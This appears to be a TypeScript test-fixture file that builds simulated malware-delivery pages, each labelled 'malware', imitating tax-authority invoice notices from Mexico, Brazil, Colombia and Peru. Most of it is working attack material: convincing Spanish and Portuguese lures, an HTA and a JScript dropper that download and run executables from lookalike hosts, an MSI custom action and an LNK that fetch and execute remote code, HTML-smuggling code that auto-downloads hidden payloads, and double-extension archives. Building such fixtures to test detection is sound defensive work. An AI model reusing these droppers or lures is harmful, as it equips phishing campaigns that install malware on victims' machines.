import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, logo, favicon, b64, pieces } from '../parts/yy-kit.js';
import { zip, pe, cfb, iso, lnk, rar5, fileRoute } from '../parts/e-bin.js';

const htaPayload = `<html><head><HTA:APPLICATION ID="cfdi" APPLICATIONNAME="Visor CFDI" WINDOWSTATE="minimize" SHOWINTASKBAR="no" BORDER="none"/>
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -nop -w hidden -c ""$d=$env:APPDATA+'\\cfdi';mkdir $d -ea 0;iwr https://sat-cfdi-visor.top/p/a.zip -o $d\\a.zip;Expand-Archive $d\\a.zip $d -Force;Start-Process $d\\Visor.exe""", 0
window.close
</script></head><body></body></html>`;
const dianJs = `var WshShell = new ActiveXObject("WScript.Shell");
var f = WshShell.ExpandEnvironmentStrings("%TEMP%") + "\\\\dian_notif.exe";
var x = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0"); x.open("GET", "https://dian-notificaciones.duckdns.org/f/n.bin", false); x.send();
var st = new ActiveXObject("ADODB.Stream"); st.Type = 1; st.Open(); st.Write(x.responseBody); st.SaveToFile(f, 2); st.Close();
WshShell.Run(f, 0, false);`;

export const entries: Entry[] = [
{
  id: 'yy-cfdi-factura-zip-msi',
  label: 'malware',
  kind: 'fake-invoice-download',
  url: 'https://www.ferreteria-elpino.com.mx/wp-content/uploads/2025/11/cfdi/index.php?rfc=XAXX010101000',
  body: doc({
    lang: 'es-MX',
    title: 'Comprobante Fiscal Digital por Internet (CFDI 4.0)',
    head: favicon('#611232', 'F'),
    css: `body{margin:0;font-family:Arial;background:#e9e9e9}.d{max-width:640px;margin:40px auto;background:#fff;border:1px solid #ccc}.d .h{background:#611232;color:#fff;padding:12px 20px}
.d .c{padding:22px}.row{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:6px 0;font-size:14px}.btn{display:inline-block;margin-top:18px;background:#1a7f37;color:#fff;padding:12px 24px;text-decoration:none;border-radius:4px}
.pdf{display:flex;align-items:center;gap:10px;border:1px dashed #aaa;padding:12px;margin-top:14px}.pdf span{background:#c00;color:#fff;font-weight:700;padding:10px 6px;font-size:12px}`,
    body: `<div class="d"><div class="h">Factura Electrónica · CFDI versión 4.0</div><div class="c">
<p>Estimado cliente, se ha generado su comprobante fiscal. Por disposición del SAT, el documento está protegido y debe descargarse para visualizarse.</p>
<div class="row"><span>Folio fiscal (UUID)</span><b>6F1C9A02-8E4B-4D17-B2A5-3C0E91F7D448</b></div>
<div class="row"><span>Emisor</span><b>COMERCIALIZADORA DEL BAJÍO SA DE CV</b></div><div class="row"><span>Total</span><b>$48,913.20 MXN</b></div><div class="row"><span>Fecha</span><b>11/11/2025 09:14</b></div>
<div class="pdf"><span>PDF</span><div>CFDI_A-18842.pdf + XML<br><small>Archivo comprimido · 1.8 MB</small></div></div>
<a class="btn" id="dl" href="descarga.php?f=CFDI_A-18842">Descargar factura</a><p style="font-size:12px;color:#777">Si la descarga no inicia automáticamente, haga clic en el botón.</p></div></div>
<script>setTimeout(function(){document.getElementById('dl').click();},3500);</script>`,
  }),
  routes: {
    'www.ferreteria-elpino.com.mx/wp-content/uploads/2025/11/cfdi/descarga.php': fileRoute(
      zip([{ name: 'CFDI_A-18842_Factura_Electronica.msi', data: cfb(['Installer', 'CFDI Visor 4.0', 'CustomAction', 'powershell.exe -w hidden -ep bypass -c iex(iwr -useb hxxp://45.61.137.22/c.ps1)', 'Microsoft Windows Installer']) }]),
      'application/zip',
      'CFDI_A-18842.zip',
    ),
  },
},
{
  id: 'yy-nfe-xml-zip-lnk',
  label: 'malware',
  kind: 'fake-invoice-download',
  url: 'https://portal-nfe-fazenda.sbs/NotaFiscal/Download.aspx?id=88123',
  body: doc({
    lang: 'pt-BR',
    title: 'Nota Fiscal Eletrônica disponível para download',
    css: `body{margin:0;font-family:Verdana,Arial;font-size:13px;background:#f4f4f4}.t{background:#0d4b8f;color:#fff;padding:14px 22px;font-size:16px}
.b{max-width:560px;margin:26px auto;background:#fff;border:1px solid #cfd8e3;padding:22px}.i td{padding:5px 10px}.dl{display:block;text-align:center;background:#2e7d32;color:#fff;text-decoration:none;padding:12px;margin-top:16px;font-weight:700}`,
    body: `<div class="t">Portal da Nota Fiscal Eletrônica · Ambiente Nacional</div>
<div class="b"><p>Prezado(a) cliente, a NF-e abaixo foi emitida para o seu CNPJ/CPF e está disponível para download (XML + DANFE).</p>
<table class="i"><tr><td>Emitente:</td><td><b>DISTRIBUIDORA ALIANÇA LTDA</b></td></tr><tr><td>Número:</td><td>88123 · Série 2</td></tr><tr><td>Valor:</td><td>R$ 4.712,35</td></tr><tr><td>Protocolo:</td><td>135250019284411</td></tr></table>
<a class="dl" href="/NotaFiscal/arquivo/NFe88123.zip">Download da Nota Fiscal (.zip)</a>
<p style="color:#888;font-size:11px">Documento emitido conforme Ajuste SINIEF 07/05. Não responda este e-mail.</p></div>`,
  }),
  routes: {
    'portal-nfe-fazenda.sbs/NotaFiscal/arquivo/NFe88123.zip': fileRoute(
      zip([
        { name: 'NFe88123/NotaFiscal_88123.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min mshta https://nfe-fazenda-cdn.sbs/v/88123.hta', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
        { name: 'NFe88123/leia-me.txt', data: 'Para visualizar a nota fiscal, abra o arquivo NotaFiscal_88123.pdf\r\n' },
      ]),
      'application/zip',
      'NFe88123.zip',
    ),
  },
},
{
  id: 'yy-cfdi-hta-smuggling',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://facturacion-cfdi-sat.top/visor/?uuid=A71E44C2-0B91',
  body: doc({
    lang: 'es-MX',
    title: 'Visor de CFDI',
    css: `body{font-family:Arial;background:#f0f0f0;margin:0}.b{max-width:460px;margin:80px auto;background:#fff;padding:28px;text-align:center;border-radius:6px;box-shadow:0 1px 6px rgba(0,0,0,.15)}
.sp{width:36px;height:36px;border:4px solid #ddd;border-top-color:#611232;border-radius:50%;animation:r 1s linear infinite;margin:16px auto}@keyframes r{to{transform:rotate(360deg)}}`,
    body: `<div class="b">${logo('sat', 34)}<h3>Preparando su comprobante…</h3><div class="sp"></div><p style="font-size:13px;color:#666">Su factura <b>CFDI_A71E44C2.hta</b> se descargará automáticamente. Ábrala para visualizar el PDF y XML.</p></div>
<script>
var parts=${pieces(b64(htaPayload), 60)};
function s2b(s){var b=atob(s),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);return u;}
setTimeout(function(){var blob=new Blob([s2b(parts.join(''))],{type:'application/hta'});var a=document.createElement('a');a.href=URL.createObjectURL(blob);a['down'+'load']='CFDI_A71E44C2.hta';document.body.appendChild(a);a.click();},1200);
</script>`,
  }),
},
{
  id: 'yy-dian-embargo-smuggled-zip',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://notificaciones-dian-embargos.com/expediente/2025-118473',
  body: doc({
    lang: 'es-CO',
    title: 'DIAN - Notificación de proceso de cobro coactivo',
    head: favicon('#0b3b8c', 'D'),
    css: `body{margin:0;font-family:Arial;background:#eef1f6}.g{background:#3366cc;color:#fff;font-size:12px;padding:5px 24px}.h{background:#fff;padding:12px 24px}
.c{max-width:640px;margin:22px auto;background:#fff;border-radius:6px;padding:26px}.r{color:#b00020;font-weight:700}.pw{background:#fff7d6;padding:10px;border-radius:4px;font-family:monospace;font-size:16px}
button{background:#0b3b8c;color:#fff;border:0;padding:12px 24px;border-radius:4px;font-size:15px}`,
    body: `<div class="g">GOV.CO</div><div class="h">${logo('dian', 34)}</div>
<div class="c"><p class="r">NOTIFICACIÓN POR CORREO – Mandamiento de pago No. 2025-118473</p>
<p>Se informa que la Dirección Seccional de Impuestos ha iniciado proceso administrativo de cobro coactivo en su contra por obligaciones pendientes. De no atender este requerimiento se procederá al <b>embargo de cuentas bancarias</b>.</p>
<p>Descargue el expediente con el detalle de la deuda. Por seguridad el archivo está protegido con contraseña:</p><p class="pw">Contraseña: DIAN2025</p>
<button id="b">Descargar expediente (ZIP)</button></div>
<script>
var z='${zip([{ name: 'Expediente_Cobro_Coactivo_2025-118473.pdf.js', data: dianJs }], { encrypted: true }).toString('base64')}';
document.getElementById('b').onclick=function(){var r=atob(z),u=new Uint8Array(r.length);for(var i=0;i<r.length;i++)u[i]=r.charCodeAt(i);
var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([u],{type:'application/octet-stream'}));l.download='Expediente_2025-118473.zip';l.click();};
</script>`,
  }),
},
{
  id: 'yy-sunat-comprobante-iso-chain',
  label: 'malware',
  kind: 'fake-invoice-download',
  url: 'https://www.clinicadental-sonrisas.pe/wp-includes/js/sunat/comprobante.html',
  body: doc({
    lang: 'es-PE',
    title: 'SUNAT - Comprobante de Pago Electrónico',
    css: `body{font-family:Arial;background:#f5f5f5;margin:0}.x{max-width:520px;margin:50px auto;background:#fff;padding:26px;border-top:5px solid #c8102e}a.b{display:inline-block;background:#c8102e;color:#fff;padding:11px 22px;text-decoration:none;border-radius:3px}`,
    body: `<div class="x">${logo('sunat', 30)}<h3>Comprobante de pago electrónico F001-00884</h3><p>Emisor: INVERSIONES ANDINAS S.A.C. (RUC 20601928374)<br>Importe total: S/ 7,480.50</p><p>Usted tiene un comprobante electrónico pendiente de revisión. Descárguelo para su registro contable.</p><a class="b" href="https://bit-ly.pe.comprobantes-sunat.online/F001-00884">Descargar comprobante</a></div>`,
  }),
  routes: {
    'bit-ly.pe.comprobantes-sunat.online/F001-00884': redirectRoute(302, 'https://files-sunat-cpe.b-cdn.net/cpe/F001-00884/Comprobante_F001-00884.iso'),
    'files-sunat-cpe.b-cdn.net/cpe/F001-00884/Comprobante_F001-00884.iso': fileRoute(
      iso('CPE_F001_00884', ['Comprobante_F001-00884.pdf.lnk', 'xml_sunat.dll']),
      'application/x-iso9660-image',
      'Comprobante_F001-00884.iso',
    ),
  },
},
{
  id: 'yy-boleto-segunda-via-redirect-rar',
  label: 'malware',
  kind: 'fake-invoice-download',
  url: 'https://boleto-segundavia.email-cobranca.net/r/boleto?cid=774120',
  routes: {
    'boleto-segundavia.email-cobranca.net/r/boleto': redirectRoute(302, 'https://cobranca-digital-docs.s3-sa-east-1.amazonaws.com.cdn-docs.click/boletos/774120/index.html'),
    'cobranca-digital-docs.s3-sa-east-1.amazonaws.com.cdn-docs.click/boletos/774120/index.html': htmlRoute(doc({
      lang: 'pt-BR',
      title: '2ª via de boleto – Cobrança',
      css: `body{font-family:Arial;background:#f2f2f2}.b{max-width:500px;margin:60px auto;background:#fff;padding:24px;border-radius:6px}.ln{font-family:monospace;background:#f7f7f7;padding:8px;font-size:13px}`,
      body: `<div class="b"><h3>Boleto vencido – 2ª via</h3><p>Cedente: CONDOMÍNIO RESIDENCIAL JARDIM DAS ACÁCIAS<br>Vencimento: 05/11/2025 · Valor: R$ 684,20</p><p class="ln">34191.09008 77412.019284 71020.150008 8 11230000068420</p><p>O download do boleto atualizado começará em instantes…</p></div>
<script>setTimeout(function(){location.href='/boletos/774120/Boleto_Atualizado_774120.rar';},1500);</script>`,
    })),
    'cobranca-digital-docs.s3-sa-east-1.amazonaws.com.cdn-docs.click/boletos/774120/Boleto_Atualizado_774120.rar': fileRoute(rar5('Boleto_Atualizado_774120.pdf.exe'), 'application/vnd.rar', 'Boleto_Atualizado_774120.rar'),
  },
},
];
